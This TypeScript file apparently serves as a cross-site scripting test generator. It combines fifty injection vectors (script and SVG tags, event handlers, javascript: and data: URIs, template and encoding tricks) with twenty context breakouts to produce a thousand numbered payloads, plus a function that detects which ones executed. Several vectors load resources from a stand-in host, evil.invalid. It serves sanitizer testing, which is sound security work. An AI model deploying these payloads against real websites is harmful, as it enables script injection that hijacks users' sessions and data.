/** Texts that run a script, leave the page or load something wherever one of them is taken for more than text. */

const call = (id: number): string => `pwned(${id})`;

/** Ways to have an expression run, in markup and in addresses. */
const runners: readonly ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<script src=data:,${js}></script>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<img/src/onerror=${js}//`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<math href="javascript:${js}">x</math>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<form action="javascript:${js}"><button>x</button></form>`,
  (js) => `<button formaction="javascript:${js}">x</button>`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `<a href="data:text/html,<script>opener.${js}</script>" target=_blank>x</a>`,
  (js) => `<base href="javascript:${js}//">`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<link rel=stylesheet href="https://evil.invalid/${js}">`,
  (js) => `<style>@import "https://evil.invalid/${js}";</style>`,
  (js) => `<p style="background:url(https://evil.invalid/${js})">x</p>`,
  (js) => `<img src="https://evil.invalid/${js}">`,
  (js) => `<body onload=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<details open ontoggle=${js}>x</details>`,
  (js) => `<video><source onerror=${js}></video>`,
  (js) => `<audio src=x onerror=${js}>`,
  (js) => `<marquee onstart=${js}>x</marquee>`,
  (js) => `<template><img src=x onerror=${js}></template>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<x onclick=${js} tabindex=0 id=x>x</x>`,
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `java\u00ADscript:${js}`,
  (js) => `javascript://evil.invalid/%0a${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `vbscript:${js}`,
  (js) => `blob:https://evil.invalid/${js}`,
  (js) => `https://evil.invalid/?${js}`,
  (js) => `//evil.invalid/${js}`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}`,
  (js) => `&#106;avascript:${js}`,
  (js) => `&lt;img src=x onerror=${js}&gt;`,
  (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  (js) => `%3Cscript%3E${js}%3C/script%3E`,
  (js) => `\u202E<script>${js}</script>`,
  (js) => `\uFF1Cscript\uFF1E${js}`,
  (js) => `]]><script>${js}</script>`,
];

/** Ways out of the place in which the text stands. */
const breakouts: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"${text}`,
  (text) => `'${text}`,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `" autofocus onfocus=${text} x="`,
  (text) => `</span></pre>${text}`,
  (text) => `</script>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `</title></style>${text}`,
  (text) => `-->${text}<!--`,
  (text) => `\\"-${text}-\\"`,
  (text) => `\`${text}\``,
  (text) => `');${text};//`,
  (text) => `\t${text}`,
  (text) => `x ${text} y`,
  (text) => `<${text}`,
  (text) => `</a>${text}`,
  (text) => `*/${text}/*`,
  (text) => `[x](${text})`,
];

/** A thousand, each with a number of its own in it, `pwned(7)`, by which it is found again on the page. */
export const payloads: readonly string[] = runners.flatMap((run, row) =>
  breakouts.map((out, column) => out(run(call(row * breakouts.length + column)))),
);

/** The numbers of the payloads that stand in this text. */
export function idsIn(text: string): readonly number[] {
  return [...text.matchAll(/pwned\((\d+)\)/g)].map(([, id]) => Number(id));
}
